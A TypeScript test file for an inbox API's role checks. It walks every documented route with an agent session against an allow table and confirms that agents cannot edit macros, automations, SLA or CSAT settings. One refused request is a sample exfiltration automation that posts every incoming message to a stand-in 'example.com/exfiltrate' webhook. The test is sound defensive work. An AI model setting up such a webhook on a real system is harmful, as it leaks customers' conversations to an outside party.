import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, it } from 'node:test';
import { forEachStorage, startTestApp, type TestApp, type Workspace } from '../support/harness.ts';

/**
 * Issue 51 item 6: every route of openapi.json, called with an agent's inbox session, answers as
 * this table says. What an agent may do is written out here by hand, not derived from the scopes
 * the code gives the role, so a route whose scope is wrong (an agent changing automations, SLA
 * policies, CSAT settings, macros or canned responses) fails here. A route not in the table is
 * one agents may not use: a new route agents should reach has to be added on purpose.
 */
const AGENT_MAY: Array<[methods: string, path: RegExp, why: string]> = [
  ['GET', /^\/v1\/me$/, 'who am I'],
  ['GET PUT', /^\/v1\/me\/availability$/, 'their own availability'],
  ['POST', /^\/v1\/auth\/logout$/, 'signing out'],
  ['GET', /^\/v1\/me\/sessions$/, 'their own sessions'],
  ['DELETE', /^\/v1\/me\/sessions\/\{id\}$/, 'ending one of their sessions'],
  ['POST', /^\/v1\/me\/two-factor(\/confirm|\/disable)?$/, 'their own second factor'],
  ['GET', /^\/v1\/me\/two-factor$/, 'whether their own second factor is on'],
  ['GET', /^\/v1\/auth-settings$/, 'reading sign-in settings'],
  ['GET', /^\/v1\/erasures\/\{id\}$/, 'following an erasure'],
  // Deleting a contact erases the person, and merging two cannot be undone: admins only.
  ['GET POST PATCH', /^\/v1\/contacts(\/\{id\})?$/, 'contacts'],
  ['GET', /^\/v1\/contacts\/\{id\}\/duplicates$/, "a contact's possible duplicates"],
  ['GET', /^\/v1\/contacts\/duplicates$/, "the workspace's possible duplicates (merging them is admins')"],
  ['GET POST', /^\/v1\/contacts\/\{id\}\/consents$/, "a contact's consents (a stop told to a person)"],
  ['GET POST', /^\/v1\/media(\/\{id\}(\/content)?)?$/, 'files to send and to read'],
  ['GET', /^\/v1\/search$/, 'searching conversations'],
  ['GET PUT', /^\/v1\/me\/notifications$/, 'their own notification preferences'],
  ['GET', /^\/v1\/push\/key$/, "the server's Web Push key"],
  ['GET POST', /^\/v1\/me\/push-subscriptions$/, 'their own browsers'],
  ['DELETE', /^\/v1\/me\/push-subscriptions\/\{id\}$/, 'removing one of their browsers'],
  ['GET', /^\/v1\/me\/mentions$/, 'their mentions'],
  ['GET POST', /^\/v1\/saved-views$/, "their own and the workspace's shared saved views"],
  ['DELETE', /^\/v1\/saved-views\/\{id\}$/, 'deleting their own saved view'],
  ['POST', /^\/v1\/me\/mentions\/read$/, 'marking their mentions read'],
  ['GET POST', /^\/v1\/imports(\/\{id\})?$/, 'contact imports'],
  ['GET POST PUT', /^\/v1\/conversations(\/.*)?$/, 'working conversations (reply, assign, tags, macros run)'],
  ['GET POST', /^\/v1\/messages(\/.*)?$/, 'messages'],
  ['POST', /^\/v1\/agents\/\{id\}\/messages$/, 'messages from an AI agent'],
  ['POST', /^\/v1\/sandbox\/inbound$/, 'test inbound messages'],
  ['GET POST PATCH', /^\/v1\/leads(\/\{id\})?$/, 'leads'],
  ['GET POST', /^\/v1\/bookings(\/.*)?$/, 'bookings'],
  ['GET', /^\/v1\/agents\/\{id\}\/availability$/, 'booking slots'],
  ['GET', /^\/v1\/calls(\/\{id\}(\/recording)?)?$/, 'reading calls'],
  ['GET', /^\/v1\/templates(\/\{id\})?$/, 'reading templates'],
  ['GET', /^\/v1\/agents(\/\{id\})?$/, 'reading AI agents'],
  ['POST', /^\/v1\/agents\/\{id\}\/(test|replay)$/, 'trying an AI agent'],
  ['GET', /^\/v1\/analysis-runs\/\{id\}$/, 'reading analysis runs'],
  ['GET', /^\/v1\/agents\/\{id\}\/knowledge(\/\{doc_id\})?$/, 'reading knowledge'],
  ['POST', /^\/v1\/agents\/\{id\}\/knowledge\/search$/, 'searching knowledge'],
  ['GET', /^\/v1\/audiences(\/\{id\}(\/contacts)?)?$/, 'reading audiences'],
  ['GET', /^\/v1\/users(\/\{id\}(\/availability)?)?$/, 'reading users (to assign)'],
  ['GET', /^\/v1\/teams(\/\{id\}(\/members|\/queue)?)?$/, 'reading teams and their queue'],
  ['GET', /^\/v1\/handoff-policy$/, 'reading the handoff policy'],
  ['GET', /^\/v1\/events(\/\{id\})?$/, 'reading events'],
  ['GET', /^\/v1\/canned-responses(\/\{id\})?$/, 'using canned responses'],
  ['GET', /^\/v1\/macros(\/\{id\})?$/, 'listing macros to run'],
  ['GET', /^\/v1\/automations(\/\{id\})?$/, 'reading automations'],
  ['GET', /^\/v1\/sla-policies(\/\{id\})?$/, 'reading SLA policies'],
  ['GET', /^\/v1\/csat(\/settings)?$/, 'reading CSAT answers and settings'],
  ['GET', /^\/v1\/channels\/health$/, "the inbox's banner: WhatsApp numbers Meta flagged or restricted"],
  ['GET', /^\/v1\/payment-orders(\/\{id\})?$/, "whether a customer's order was paid (the conversation)"],
];

/** Routes the walk does not call: the event stream never ends; signing out is checked last, alone. */
const NOT_WALKED = new Set(['GET /v1/events/stream', 'POST /v1/auth/logout']);

const agentMay = (method: string, path: string) =>
  AGENT_MAY.some(([methods, re]) => methods.split(' ').includes(method) && re.test(path));

interface Operation {
  method: string;
  path: string;
  admin: boolean;
}

function keyedOperations(): Operation[] {
  const doc = JSON.parse(readFileSync(new URL('../../openapi.json', import.meta.url), 'utf8')) as {
    paths: Record<string, Record<string, { security?: Array<Record<string, unknown>> }>>;
  };
  const ops: Operation[] = [];
  for (const [path, byMethod] of Object.entries(doc.paths))
    for (const [method, op] of Object.entries(byMethod)) {
      if (!op.security?.length) continue;
      ops.push({
        method: method.toUpperCase(),
        path,
        admin: op.security.some((s) => 'adminToken' in s),
      });
    }
  return ops;
}

const placeholder = (path: string) => path.replace(/\{[a-z_]+\}/g, 'x_01JD5Z8Q4X3N2M1K0H9G8F7E6D');

forEachStorage('what an agent may do, route by route', (storage) => {
  let t: TestApp;
  let ws: Workspace;
  let agent: string;
  let admin: string;

  before(async () => {
    t = await startTestApp(storage);
    ws = await t.workspace();
    const u = await t.call('POST', '/v1/users', {
      key: ws.test,
      body: { name: 'Asha', email: 'agent@roles.test', role: 'agent', password: 'a long password' },
    });
    assert.equal(u.status, 201, u.text);
    const s = await t.call('POST', '/v1/auth/login', {
      body: { email: 'agent@roles.test', password: 'a long password' },
    });
    assert.equal(s.status, 200, s.text);
    agent = s.body.token;
    const a = await t.call('POST', '/v1/users', {
      key: ws.test,
      body: { name: 'Ravi', email: 'admin@roles.test', role: 'admin', password: 'a long password' },
    });
    assert.equal(a.status, 201, a.text);
    const as = await t.call('POST', '/v1/auth/login', {
      body: { email: 'admin@roles.test', password: 'a long password' },
    });
    assert.equal(as.status, 200, as.text);
    admin = as.body.token;
  });
  after(async () => t?.close());

  it('answers every route of openapi.json as the table says', async () => {
    const ops = keyedOperations();
    assert.ok(ops.length >= 150, `${ops.length} operations walked`);
    const wrong: string[] = [];
    for (const op of ops) {
      const label = `${op.method} ${op.path}`;
      if (NOT_WALKED.has(label)) continue;
      const res = await t.call(op.method, placeholder(op.path), {
        key: agent,
        ...(op.method === 'GET' || op.method === 'DELETE' ? {} : { body: {} }),
      });
      if (res.status >= 500) wrong.push(`${label}: ${res.status} ${res.text.slice(0, 200)}`);
      else if (op.admin) {
        // The operator's routes take the admin token, never a session.
        if (res.status !== 401) wrong.push(`${label}: ${res.status}, expected 401`);
      } else if (agentMay(op.method, op.path)) {
        if (res.status === 401 || res.status === 403) wrong.push(`${label}: ${res.status}, agents may`);
      } else if (res.status !== 403) wrong.push(`${label}: ${res.status}, agents may not`);
    }
    assert.deepEqual(wrong, []);
  });

  it('lets an agent run a macro but not change one, nor any setting', async () => {
    const mac = await t.call('POST', '/v1/macros', {
      key: ws.test,
      body: { name: 'Tag VIP', actions: [{ type: 'add_tags', tags: ['vip'] }] },
    });
    assert.equal(mac.status, 201, mac.text);
    const conv = await t.call('POST', '/v1/sandbox/inbound', {
      key: ws.test,
      body: { from: '+14155550111', text: 'Hello' },
    });
    assert.equal(conv.status, 200, conv.text);
    const conversationId = conv.body.conversation_id;
    const run = await t.call('POST', `/v1/conversations/${conversationId}/macros/${mac.body.id}`, {
      key: agent,
    });
    assert.equal(run.status, 200, run.text);
    assert.equal(run.body.results[0].status, 'ok');

    const refused = [
      ['PATCH', `/v1/macros/${mac.body.id}`, { name: 'Mine now' }],
      ['DELETE', `/v1/macros/${mac.body.id}`, undefined],
      [
        'POST',
        '/v1/automations',
        {
          name: 'Copy every message out',
          event: 'message.received',
          actions: [{ type: 'webhook', url: 'https://example.com/exfiltrate' }],
        },
      ],
      ['PUT', '/v1/csat/settings', { enabled: false }],
      ['POST', '/v1/canned-responses', { short_code: 'hi', title: 'Hello', content: 'Hello!' }],
      ['POST', '/v1/sla-policies', { name: 'Fast', first_response_minutes: 5 }],
    ] as const;
    for (const [method, url, body] of refused) {
      const res = await t.call(method, url, { key: agent, ...(body ? { body } : {}) });
      assert.equal(res.status, 403, `${method} ${url}: ${res.text}`);
      assert.equal(res.body.error.required_scope, 'settings:write');
    }
    const still = await t.call('GET', `/v1/macros/${mac.body.id}`, { key: ws.test });
    assert.equal(still.body.name, 'Tag VIP');
    // Each refused request was a valid one: an admin's session does each.
    for (const [method, url, body] of refused) {
      if (method === 'DELETE') continue;
      const res = await t.call(method, url, { key: admin, ...(body ? { body } : {}) });
      assert.ok(res.status === 200 || res.status === 201, `admin ${method} ${url}: ${res.text}`);
    }
  });

  it('ends the session on sign-out', async () => {
    const out = await t.call('POST', '/v1/auth/logout', { key: agent });
    assert.ok(out.status < 300, out.text);
    const me = await t.call('GET', '/v1/me', { key: agent });
    assert.equal(me.status, 401);
  });
});
